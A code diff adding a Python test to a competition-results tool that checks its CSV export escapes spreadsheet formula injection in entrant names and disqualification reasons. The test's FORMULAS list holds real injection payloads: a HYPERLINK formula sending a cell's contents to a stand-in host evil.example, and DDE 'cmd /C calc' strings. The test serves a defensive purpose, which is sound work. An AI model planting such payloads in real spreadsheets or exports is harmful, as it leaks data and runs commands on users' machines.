@@ -208,6 +208,42 @@ def test_czech_csv_shares_places_and_awards_five(tmp_path, capsys):
     assert rows[6]["status"] == "dns"
 
 
+FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1;"click")', "+1+cmd|' /C calc'!A0",
+            "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0"]
+DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def test_a_name_or_reason_a_spreadsheet_would_run_is_written_as_text(tmp_path, capsys):
+    """CSV formula injection (issue #33 item 5), through `tabletimer results
+    --csv`: a text cell that begins with = + - @ (names) or tab or CR (a dq
+    reason as typed) gets a quote in front and is in double quotes; numbers
+    stay bare; our import's read_cell gives each back as it was.  A name
+    with its own leading quote is written as it is."""
+    from tabletimer.hub.event.csv_cells import read_cell
+
+    names = FORMULAS + ["'t Hooft", "Jana"]
+    reg = io.StringIO()
+    csv.writer(reg).writerows([("id", "name"), *((str(i), n) for i, n in enumerate(names, 1))])
+    stations = "board,button,table,entrant\n" + "".join(f"C{i:02d},1,Table {i},{i}\n" for i in range(1, 7))
+    reasons = {"5": "\t=1+1", "6": "\r@SUM(1)"}
+    actions = [("round_start", {"at": T0})]
+    for i in range(1, 5):
+        actions += finish(str(i), (44 + i) * M)
+    actions += [("dq", {"entrant": e, "reason": r}) for e, r in reasons.items()]
+    ev = make_event(tmp_path / "cup", "cz-championship-individuals", reg.getvalue(), stations, actions)
+    assert cli_outputs.cmd_results(results_args(ev, csv="-")) == 0
+    text = capsys.readouterr().out
+    cells = [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]
+    assert [c for c in cells if c[:1] in DANGEROUS] == []
+    by = {r["entrant"]: r for r in csv.DictReader(io.StringIO(text, newline=""))}
+    assert [by[str(i)]["name"] for i in range(1, 7)] == ["'" + f for f in FORMULAS] + ["'t Hooft", "Jana"]
+    assert (by["5"]["reason"], by["6"]["reason"]) == ("'\t=1+1", "'\r@SUM(1)")
+    assert '"\'=HYPERLINK(""http://evil.example/?x=""&A1;""click"")"' in text
+    assert text.splitlines()[1].startswith('1,1,"1","\'=HYPERLINK(')       # place and award: numbers
+    assert [read_cell(by[str(i)]["name"]) for i in range(1, 7)] == names
+    assert [read_cell(by[e]["reason"]) for e in reasons] == list(reasons.values())
+
+
 def test_multi_puzzle_csv_and_sheet_have_a_split_per_puzzle(tmp_path):
     ev = event_folder.load(teams_event(tmp_path / "teams"))
     res = results.load_results(ev.path)
